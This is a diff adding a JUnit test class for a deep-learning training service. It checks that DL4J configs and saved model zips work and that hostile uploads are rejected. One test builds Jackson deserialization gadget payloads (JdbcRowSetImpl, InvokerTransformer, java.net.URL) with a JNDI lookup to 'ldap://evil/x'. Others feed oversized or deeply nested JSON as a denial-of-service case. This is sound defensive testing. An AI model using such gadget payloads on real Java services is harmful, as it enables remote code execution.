@@ -1,0 +1,196 @@
+package vn.hocsau.trainer;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.ByteArrayOutputStream;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+import org.deeplearning4j.nn.multilayer.MultiLayerNetwork;
+import org.deeplearning4j.util.ModelSerializer;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import vn.hocsau.trainer.config.NetworkConfigParser;
+
+/** DL4J JSON configs and model zips: the happy paths, and hostile files that must stay inert. */
+class Dl4jModelsTest {
+
+  @TempDir Path dir;
+
+  private static String configJson() {
+    return new NetworkConfigParser("classification", 2, new int[] {3})
+        .parse("optimizer: {lr: 0.01}\nlayers:\n  - dense: {units: 8}\n")
+        .conf()
+        .toJson();
+  }
+
+  @Test
+  void aDl4jJsonConfigTrains() throws Exception {
+    JobFolder folder =
+        new JobFolder(dir)
+            .blobs(300, 10, 3)
+            .maxEpochs(4)
+            .submission("dl4j-json", "model.json", configJson());
+
+    assertEquals(0, folder.run());
+
+    assertEquals(4, folder.events("epoch").size());
+    assertTrue(
+        folder.events("epoch").get(3).get("metrics").get("val_accuracy").doubleValue() > 0.85);
+  }
+
+  @Test
+  void aDoubleCnnTrainsWithoutHelpersAndSaysWhy() throws Exception {
+    var conf =
+        new NetworkConfigParser("classification", 3, new int[] {1, 8, 8})
+            .parse("layers:\n  - conv2d: {filters: 4}\n  - maxpool: {size: 2}\n")
+            .conf();
+    conf.setDataType(org.nd4j.linalg.api.buffer.DataType.DOUBLE);
+    JobFolder folder =
+        new JobFolder(dir)
+            .bars(60, 5, false)
+            .maxEpochs(1)
+            .submission("dl4j-json", "cnn.json", conf.toJson());
+
+    assertEquals(0, folder.run());
+
+    assertEquals("none", folder.events("started").get(0).get("helpers").asText());
+    if (OneDnnHelpers.available()) {
+      assertTrue(
+          folder.events("log").stream()
+              .anyMatch(
+                  e ->
+                      e.get("message")
+                          .asText()
+                          .equals(
+                              "oneDNN helpers not used: the helpers support float networks, this one is DOUBLE")),
+          folder.events("log").toString());
+    }
+    assertEquals(6, folder.predictions().size());
+  }
+
+  @Test
+  void aSavedModelZipPredictsAsUploaded() throws Exception {
+    MultiLayerNetwork net = new MultiLayerNetwork(MultiLayerNetworkJson.conf(configJson()));
+    net.init();
+    Path zip = dir.resolve("saved.zip");
+    ModelSerializer.writeModel(net, zip.toFile(), true);
+    JobFolder folder =
+        new JobFolder(dir.resolve("job"))
+            .blobs(50, 10, 3)
+            .submissionBytes("dl4j-zip", "model.zip", Files.readAllBytes(zip));
+
+    assertEquals(0, folder.run());
+
+    assertEquals(0, folder.events("started").get(0).get("epochs").intValue());
+    assertEquals(11, folder.predictions().size());
+  }
+
+  @Test
+  void gadgetClassesAreRefusedBeforeDl4jSeesTheJson() throws Exception {
+    for (String gadget :
+        new String[] {
+          "com.sun.rowset.JdbcRowSetImpl",
+          "org.apache.commons.collections.functors.InvokerTransformer",
+          "java.net.URL",
+          "org.nd4j.shade.jackson.databind.node.POJONode",
+          "org.deeplearning4j.nn.conf..x"
+        }) {
+      String hostile =
+          configJson()
+              .replaceFirst(
+                  "\"@class\" : \"org.deeplearning4j.nn.conf.layers.DenseLayer\"",
+                  "\"@class\" : \""
+                      + gadget
+                      + "\", \"dataSourceName\" : \"ldap://evil/x\", \"autoCommit\" : true");
+      assertTrue(hostile.contains(gadget), "the fixture really carries the gadget");
+      JobFolder folder =
+          new JobFolder(Files.createTempDirectory(dir, "g"))
+              .blobs(20, 2, 3)
+              .submission("dl4j-json", "model.json", hostile);
+
+      assertEquals(2, folder.run(), gadget);
+
+      assertTrue(
+          folder
+              .verdict()
+              .get("message")
+              .asText()
+              .startsWith("the configuration names a class DL4J configurations never use"),
+          folder.verdict().toString());
+    }
+  }
+
+  @Test
+  void deepOrHugeJsonIsAQuickConfigError() throws Exception {
+    String deep = "{\"confs\": " + "[".repeat(200_000) + "]".repeat(200_000) + "}";
+    String huge = "{\"confs\": [], \"x\": \"" + "a".repeat(3_000_000) + "\"}";
+    assertTimeoutPreemptively(
+        Duration.ofSeconds(20),
+        () -> {
+          for (String text : new String[] {deep, huge}) {
+            JobFolder folder =
+                new JobFolder(Files.createTempDirectory(dir, "d"))
+                    .blobs(20, 2, 3)
+                    .submission("dl4j-json", "model.json", text);
+            assertEquals(2, folder.run());
+            assertEquals("CONFIG_ERROR", folder.verdict().get("errorClass").asText());
+          }
+        });
+  }
+
+  @Test
+  void zipsWithStrangeEntriesOrGadgetsAreRefused() throws Exception {
+    byte[] extra = zip("configuration.json", configJson(), "preprocessor.bin", "\u00ac\u00ed");
+    JobFolder folder =
+        new JobFolder(dir.resolve("a"))
+            .blobs(20, 2, 3)
+            .submissionBytes("dl4j-zip", "model.zip", extra);
+    assertEquals(2, folder.run());
+    assertTrue(
+        folder
+            .verdict()
+            .get("message")
+            .asText()
+            .startsWith("the model zip holds 'preprocessor.bin'"));
+
+    String hostile =
+        configJson().replace("org.nd4j.linalg.activations.impl.ActivationReLU", "java.net.URL");
+    byte[] gadget = zip("configuration.json", hostile, "coefficients.bin", "x");
+    JobFolder second =
+        new JobFolder(dir.resolve("b"))
+            .blobs(20, 2, 3)
+            .submissionBytes("dl4j-zip", "model.zip", gadget);
+    assertEquals(2, second.run());
+    assertTrue(second.verdict().get("message").asText().contains("'java.net.URL'"));
+
+    JobFolder third =
+        new JobFolder(dir.resolve("c"))
+            .blobs(20, 2, 3)
+            .submissionBytes("dl4j-zip", "model.zip", "not a zip".getBytes());
+    assertEquals(2, third.run());
+  }
+
+  private static byte[] zip(String... namesAndTexts) throws Exception {
+    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+      for (int i = 0; i < namesAndTexts.length; i += 2) {
+        zip.putNextEntry(new ZipEntry(namesAndTexts[i]));
+        zip.write(namesAndTexts[i + 1].getBytes(java.nio.charset.StandardCharsets.UTF_8));
+        zip.closeEntry();
+      }
+    }
+    return bytes.toByteArray();
+  }
+
+  /** Reads a config back the way DL4J does, for building a model to save. */
+  private static final class MultiLayerNetworkJson {
+    static org.deeplearning4j.nn.conf.MultiLayerConfiguration conf(String json) {
+      return org.deeplearning4j.nn.conf.MultiLayerConfiguration.fromJson(json);
+    }
+  }
+}
